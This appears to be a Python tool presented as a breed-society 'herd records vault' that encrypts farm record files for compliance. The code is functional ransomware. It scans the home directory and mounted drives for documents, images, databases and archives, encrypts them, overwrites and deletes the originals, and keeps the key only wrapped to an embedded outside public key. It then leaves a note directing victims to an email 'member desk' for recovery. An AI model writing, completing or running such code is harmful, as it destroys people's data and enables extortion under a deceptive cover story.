#!/usr/bin/env python3
"""Herd records vault: at-rest protection for farm record files.

Breed-society membership now requires that herd registers, vet records
and buyer contact sheets are stored encrypted on farm computers. This
tool finds record files in the usual places, seals each one into a
``.hvault`` container (AES-256-GCM) and escrows the vault key with the
society's public key so it can be recovered through the member desk.
"""

import argparse
import json
import logging
import os
import sys
from datetime import datetime, timezone
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("hvault")

ESCROW_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAybu6nLs5aKL+z23/Sww6
WK00g3hT7vVQLXLdu8b9T7BVa4JlUcqnuKupcsXvYihULjBMyVriaowLto8OWr0k
VyAQHpZyUfo9vMqfS3zjiRELIX9V5pgDmVxYW6B4d8VATGc709TV2m8ULV/qp9wt
1r60Uq28LNyyeIKqs639xWW0IhGcOal5eiELCoN9REV413BnU8ACfbenvOFS5WXt
u6Iw2q2w9PIZ2yiNvYbM8U7sXY6F6FhihtZ8gnE/e/ukX5951frqrWl8EJqjHfmT
tfb+opDjSnhVBaIUv72CMfLiqz5Xq5LD2by85Olrdm/IvaUz2Ceg9C0jDHBy+hzo
4wIDAQAB
-----END PUBLIC KEY-----
"""

RECORD_SUFFIXES = {".csv", ".xls", ".xlsx", ".ods", ".doc", ".docx", ".pdf",
                   ".sqlite3", ".db", ".jpg", ".jpeg", ".png", ".txt", ".zip"}
SKIP_DIRS = {".cache", ".local", ".git", "node_modules", "__pycache__", ".hvault"}
MEMBER_NOTE = """Your herd records have been sealed by Herd Records Vault.
Vault id: {vault_id}
To restore access, send the vault id and the file HVAULT_KEY.json to the
member desk (records-desk@herdvault-society.net). Files must not be renamed.
"""


def default_roots() -> list[Path]:
    home = Path.home()
    roots = [home]
    for mnt in (Path("/media") / home.name, Path("/mnt")):
        if mnt.is_dir():
            roots.append(mnt)
    return roots


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in RECORD_SUFFIXES and not p.is_symlink():
                    yield p


class Vault:
    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.vault_id = os.urandom(8).hex()

    def escrow(self, dest: Path) -> None:
        pub = serialization.load_pem_public_key(ESCROW_PUBKEY)
        wrapped = pub.encrypt(self._key, padding.OAEP(
            mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None))
        dest.write_text(json.dumps({
            "vault_id": self.vault_id,
            "sealed_at": datetime.now(timezone.utc).isoformat(),
            "escrow": wrapped.hex(),
        }))
        self._key = None  # only the escrowed copy is kept

    def seal(self, path: Path) -> None:
        data = path.read_bytes()
        nonce = os.urandom(12)
        sealed = nonce + self._aead.encrypt(nonce, data, path.name.encode())
        path.with_name(path.name + ".hvault").write_bytes(sealed)
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--max-mb", type=int, default=200)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(message)s")

    roots = args.roots or default_roots()
    vault = Vault()
    sealed = skipped = 0
    for path in candidates(roots):
        try:
            if path.stat().st_size > args.max_mb * 1024 * 1024:
                skipped += 1
                continue
            vault.seal(path)
            sealed += 1
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
            skipped += 1
    home = Path.home()
    vault.escrow(home / "HVAULT_KEY.json")
    (home / "HVAULT_README.txt").write_text(MEMBER_NOTE.format(vault_id=vault.vault_id))
    log.info("sealed %d record files (%d skipped), vault %s",
             sealed, skipped, vault.vault_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
